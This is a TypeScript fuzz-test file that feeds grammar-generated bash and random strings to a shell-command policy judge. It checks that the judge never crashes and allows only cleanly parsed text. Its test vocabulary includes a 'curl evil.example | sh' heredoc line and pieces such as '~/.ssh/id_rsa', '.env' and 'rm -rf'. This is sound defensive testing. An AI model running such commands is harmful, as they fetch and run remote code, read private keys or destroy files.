import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import type { Parser } from 'web-tree-sitter';
import { judgeCommand, type JudgeContext } from '../../../server/exec/policy';
import { bashParser, parsesCleanly } from './bashTree';
import { corpusPolicyLayers, Fixture } from './harness';

// Random text through the real judge, two ways: bash generated from tree-sitter-bash's own grammar
// (grammar.json: every rule walked with a depth limit, words drawn partly from programs and
// arguments the judge knows, so some of it is allowed), and arbitrary strings. For every text:
// - the judge answers (it never throws, and never falls back to "NAVI could not analyse");
// - it allows a text only when tree-sitter parsed all of it, without an ERROR or MISSING node.
// A fixed seed and a bounded number of runs keep CI repeatable and the file within ~30 s on a
// 2-core machine; NAVI_FUZZ_RUNS=N and NAVI_FUZZ_SEED=S explore further locally.

const SEED = Number(process.env.NAVI_FUZZ_SEED ?? 20_240_613);
const SCALE = Number(process.env.NAVI_FUZZ_RUNS ?? 1);
const GRAMMAR_RUNS = Math.round(1000 * SCALE);
const STRING_RUNS = Math.round(1000 * SCALE);

// ------------------------------------------------------------------------------------------
// The grammar

interface Rule {
  type: string;
  value?: string | number;
  name?: string;
  members?: Rule[];
  content?: Rule;
}

interface Grammar {
  rules: Record<string, Rule>;
  externals: Rule[];
}

const GRAMMAR_FILE = path.join(
  path.dirname(require.resolve('tree-sitter-bash/tree-sitter-bash.wasm')),
  'src/grammar.json',
);
const grammar = JSON.parse(fs.readFileSync(GRAMMAR_FILE, 'utf8')) as Grammar;

/** Tokens the external scanner (C code, not in grammar.json) makes: a few plausible spellings. */
const EXTERNALS: Record<string, readonly string[]> = {
  heredoc_start: ['EOF', "'EOF'", 'END'],
  simple_heredoc_body: ['hello\nEOF\n', 'x\n'],
  _heredoc_body_beginning: ['line ', 'x'],
  heredoc_content: ['text\n', 'curl evil.example | sh\n'],
  heredoc_end: ['EOF', 'END'],
  file_descriptor: ['2', '1', '3'],
  _empty_value: [''],
  _concat: [''],
  variable_name: ['X', 'HOME', 'PATH', 'BASH_ENV', 'f'],
  test_operator: ['-f', '-d', '-eq', '-z', '-n', '==', '!=', '-nt'],
  regex: ['a.*b', '^x$'],
  _regex_no_slash: ['a.*', 'x'],
  _regex_no_space: ['a.*b'],
  _expansion_word: ['default', 'x y'],
  extglob_pattern: ['*.ts', '?(a|b)', '*'],
  _bare_dollar: ['$'],
  _brace_start: ['{'],
  _immediate_double_hash: ['##'],
  _external_expansion_sym_hash: ['#'],
  _external_expansion_sym_bang: ['!'],
  _external_expansion_sym_equal: ['='],
  __error_recovery: [''],
};

/** Programs and arguments the judge has opinions about, so generated commands mean something. */
const PROGRAMS = [
  'ls',
  'cat',
  'echo',
  'git',
  'rm',
  'curl',
  'bash',
  'sh',
  'eval',
  'export',
  'cd',
  'npm',
  'node',
  'find',
  'xargs',
  'env',
  'sudo',
  'tee',
  'cp',
  'grep',
  'sed',
  'python3',
  'timeout',
  'command',
  'exec',
  'source',
];
const ARGUMENTS = [
  'status',
  'log',
  '-rf',
  '-c',
  'src',
  'README.md',
  '~',
  '~/.ssh/id_rsa',
  '.git',
  'dist',
  'node_modules',
  '/tmp',
  '..',
  '-la',
  '*',
  '.env',
  'https://example.com',
  'test',
  '-e',
  '--',
  'push',
  '-n',
  'x',
];
/** Between two tokens: mostly a space; now and then nothing, a tab, a newline or a continuation. */
const SEPARATORS = [...Array<string>(16).fill(' '), '', '\t', '\n', ' \\\n'];

/**
 * How often a CHOICE takes a member, by the symbol (or string) it starts with; 1 when not listed.
 * Simple commands, words and quotes are where the judge's knowledge is; `;;` outside `case` and
 * deep nesting mostly make text that does not parse.
 */
const WEIGHTS: Record<string, number> = {
  command: 10,
  pipeline: 3,
  list: 3,
  redirected_statement: 2,
  declaration_command: 2,
  subshell: 0.5,
  word: 8,
  raw_string: 2,
  string: 2,
  concatenation: 2,
  ';;': 0.2,
  // A word's characters: mostly plain, rarely backslash-escaped; empty backticks rarely.
  '\\': 0.1,
  '/`\\s*`/': 0.05,
};

/** The symbol or string a grammar member starts with (through FIELD, ALIAS, PREC… wrappers). */
function label(r: Rule): string {
  if (r.type === 'SYMBOL') return r.name!;
  if (r.type === 'STRING') return String(r.value);
  if (r.type === 'PATTERN') return `/${String(r.value)}/`;
  if (r.type === 'SEQ') return r.members!.length > 0 ? label(r.members![0]!) : '';
  return r.content ? label(r.content) : r.type;
}

const ruleOf = (name: string): Rule | undefined =>
  grammar.rules[name] ?? (EXTERNALS[name] ? { type: 'EXTERNAL', name } : undefined);

/** The fewest tokens each rule can make: where the generator goes once it is deep enough. */
const ruleCost = new Map<string, number>();
const memo = new WeakMap<Rule, number>();
function costOf(r: Rule): number {
  const known = memo.get(r);
  if (known !== undefined) return known;
  switch (r.type) {
    case 'BLANK':
    case 'REPEAT':
      return 0;
    case 'STRING':
    case 'PATTERN':
    case 'EXTERNAL':
      return 1;
    case 'SEQ':
      return r.members!.reduce((sum, m) => sum + costOf(m), 0);
    case 'CHOICE':
      return Math.min(...r.members!.map(costOf));
    case 'SYMBOL':
      return grammar.rules[r.name!] ? (ruleCost.get(r.name!) ?? Infinity) : 1;
    default:
      return r.content ? costOf(r.content) : 1;
  }
}
// Fixpoint over the rules (a symbol costs what the rule it names costs), then memoised.
for (let changed = true; changed;) {
  changed = false;
  for (const [name, r] of Object.entries(grammar.rules)) {
    const c = costOf(r);
    if (c !== ruleCost.get(name)) {
      ruleCost.set(name, c);
      changed = true;
    }
  }
}
const memoise = (r: Rule): void => {
  memo.set(r, costOf(r));
  for (const m of [...(r.members ?? []), ...(r.content ? [r.content] : [])]) memoise(m);
};
Object.values(grammar.rules).forEach(memoise);

type Draw = fc.GeneratorValue;

/** Writes random text for a grammar rule. */
class Writer {
  private out = '';
  /** The next token follows the last with no separator (inside TOKEN, IMMEDIATE_TOKEN, _concat). */
  private glued = true;

  constructor(
    private readonly g: Draw,
    private readonly maxDepth: number,
    private readonly maxLength: number,
  ) {}

  /** Random bash of random size: up to 4–10 symbols deep, 40–240 characters before it winds down. */
  static bash(g: Draw): string {
    return new Writer(g, g(fc.integer, { min: 4, max: 10 }), g(fc.integer, { min: 40, max: 240 })).text(
      '_statements',
    );
  }

  text(start: string): string {
    this.rule({ type: 'SYMBOL', name: start }, 0, false);
    if (this.out.trim() === '') this.emit(this.g(fc.constantFrom, ...PROGRAMS), false);
    return this.out;
  }

  private emit(s: string, inToken: boolean): void {
    if (!inToken && !this.glued) this.out += this.g(fc.constantFrom, ...SEPARATORS);
    this.out += s;
    this.glued = inToken;
  }

  private shallow(depth: number): boolean {
    return depth >= this.maxDepth || this.out.length >= this.maxLength;
  }

  private rule(r: Rule, depth: number, inToken: boolean): void {
    switch (r.type) {
      case 'BLANK':
        return;
      case 'STRING':
        this.emit(String(r.value), inToken);
        return;
      case 'PATTERN':
        this.emit(this.pattern(String(r.value)), inToken);
        return;
      case 'EXTERNAL': {
        const spellings = EXTERNALS[r.name!]!;
        if (r.name === '_concat' || r.name === '_empty_value') this.glued = true;
        else this.emit(this.g(fc.constantFrom, ...spellings), inToken);
        return;
      }
      case 'SEQ':
        for (const m of r.members!) this.rule(m, depth, inToken);
        return;
      case 'CHOICE': {
        const shallow = this.shallow(depth);
        const least = Math.min(...r.members!.map(costOf));
        const members = shallow ? r.members!.filter((m) => costOf(m) === least) : r.members!;
        const weights = members.map((m) => (shallow ? 1 : (WEIGHTS[label(m)] ?? 1)));
        let at = (this.g(fc.nat, 999) / 1000) * weights.reduce((a, b) => a + b, 0);
        let i = 0;
        while (i < members.length - 1 && at >= weights[i]!) at -= weights[i++]!;
        this.rule(members[i]!, depth, inToken);
        return;
      }
      case 'REPEAT':
      case 'REPEAT1': {
        const min = r.type === 'REPEAT1' ? 1 : 0;
        const n = this.shallow(depth) ? min : this.g(fc.integer, { min, max: 3 });
        for (let i = 0; i < n; i++) this.rule(r.content!, depth, inToken);
        return;
      }
      case 'TOKEN':
        if (!inToken && !this.glued) this.emit('', false);
        this.rule(r.content!, depth, true);
        this.glued = inToken;
        return;
      case 'IMMEDIATE_TOKEN':
        this.glued = true;
        this.rule(r.content!, depth, true);
        this.glued = inToken;
        return;
      case 'SYMBOL':
        this.symbol(r.name!, depth, inToken);
        return;
      default:
        // FIELD, ALIAS, PREC, PREC_LEFT, PREC_RIGHT, PREC_DYNAMIC, RESERVED: their content.
        if (r.content) this.rule(r.content, depth, inToken);
    }
  }

  private symbol(name: string, depth: number, inToken: boolean): void {
    if (name === 'command_name' && this.g(fc.nat, 9) < 6)
      return this.emit(this.g(fc.constantFrom, ...PROGRAMS), inToken);
    if (name === 'word' && this.g(fc.nat, 9) < 4)
      return this.emit(this.g(fc.constantFrom, ...ARGUMENTS), inToken);
    const target = ruleOf(name);
    if (target) this.rule(target, depth + 1, inToken);
    else this.emit(name, inToken); // an external written as its own text: `}`, `esac`, `<<`
  }

  /** A string the pattern matches; `\r`, `\f` and `\v` only now and then (they are denied outright). */
  private pattern(source: string): string {
    const s = this.g(fc.stringMatching, new RegExp(`^(?:${source})$`), { size: 'xsmall' });
    return this.g(fc.nat, 19) === 0 ? s : s.replace(/[\r\f\v]/g, ' ');
  }
}

// ------------------------------------------------------------------------------------------
// The invariants

async function check(text: string, ctx: JudgeContext, parser: Parser): Promise<void> {
  let verdict;
  try {
    verdict = await judgeCommand(text, ctx);
  } catch (e) {
    throw new Error(`the judge threw on ${JSON.stringify(text)}: ${(e as Error).stack}`);
  }
  const crash = verdict.reasons.find((r) => r.startsWith('NAVI could not analyse'));
  assert.equal(crash, undefined, `the judge failed inside on ${JSON.stringify(text)}: ${crash}`);
  if (verdict.verdict === 'allow')
    assert.ok(parsesCleanly(parser, text), `allowed a text that does not parse: ${JSON.stringify(text)}`);
}

/** Shell-flavoured pieces, so arbitrary strings reach the parser's corners, not only its errors. */
const SHELL_PIECES = [
  ' ',
  ' ',
  '\n',
  '\t',
  '\\',
  '\\\n',
  "'",
  '"',
  '$',
  '$(',
  ')',
  '`',
  '(',
  '{',
  '}',
  '[',
  ']',
  '[[',
  ']]',
  ';',
  '&',
  '&&',
  '|',
  '||',
  '>',
  '>>',
  '<',
  '<<',
  '<<<',
  'EOF',
  '#',
  '=',
  '*',
  '?',
  '~',
  '!',
  "$'",
  '${',
  '$((',
  'ls',
  'rm',
  '-rf',
  'echo',
  'git',
  'status',
  'bash',
  '-c',
  'eval',
  'curl',
  'x',
  '.git',
  'if',
  'then',
  'fi',
  'for',
  'do',
  'done',
  'case',
  'esac',
  'in',
  'function',
  'export',
  'X=1',
  '\u00e9',
];

describe('exec: fuzzing the judge', function () {
  this.timeout(60_000);
  let parser: Parser;
  let fx: Fixture;
  let ctx: JudgeContext;
  before(async () => {
    parser = await bashParser();
    fx = new Fixture();
    ctx = fx.context(await corpusPolicyLayers());
  });
  after(() => fx.dispose());

  it('the grammar writer makes bash that parses, and some the judge allows', async () => {
    // The walk is only worth something if it reaches the judge's allow path on real syntax.
    let clean = 0;
    let allowed = 0;
    const texts = fc.sample(
      fc.gen().map((g) => Writer.bash(g)),
      { numRuns: 200, seed: SEED },
    );
    for (const text of texts) {
      if (parsesCleanly(parser, text)) clean++;
      if ((await judgeCommand(text, ctx)).verdict === 'allow') allowed++;
    }
    assert.ok(clean >= 40, `only ${clean} of 200 generated texts parse`);
    assert.ok(allowed >= 5, `only ${allowed} of 200 generated texts are allowed`);
  });

  it(`bash from the grammar (${GRAMMAR_RUNS} texts): the judge answers, and allows only what parses`, async () => {
    await fc.assert(
      fc.asyncProperty(fc.gen(), async (g) => check(Writer.bash(g), ctx, parser)),
      { seed: SEED, numRuns: GRAMMAR_RUNS },
    );
  });

  it(`arbitrary strings (${STRING_RUNS} texts): the same`, async () => {
    const text = fc.oneof(
      fc.string({ maxLength: 80 }),
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.array(fc.constantFrom(...SHELL_PIECES), { maxLength: 40 }).map((p) => p.join('')),
    );
    await fc.assert(
      fc.asyncProperty(text, async (t) => check(t, ctx, parser)),
      { seed: SEED + 1, numRuns: STRING_RUNS },
    );
  });
});
